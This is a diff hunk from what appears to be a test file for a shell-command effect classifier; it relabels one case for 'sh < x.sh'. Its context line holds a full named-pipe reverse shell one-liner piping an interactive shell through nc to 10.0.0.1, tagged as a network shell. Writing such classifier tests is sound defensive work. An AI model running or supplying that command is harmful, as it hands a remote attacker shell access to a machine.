@@ -170,7 +170,7 @@ import WritShell
             EffectCase(
                 "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 99 > /tmp/f",
                 "net.connect 10.0.0.1:99 upload network_shell"),
-            EffectCase("sh < x.sh", "shell.exec sh interpreter opaque:computed"),
+            EffectCase("sh < x.sh", "shell.exec sh interpreter opaque:unread"),
         ])
     }
 
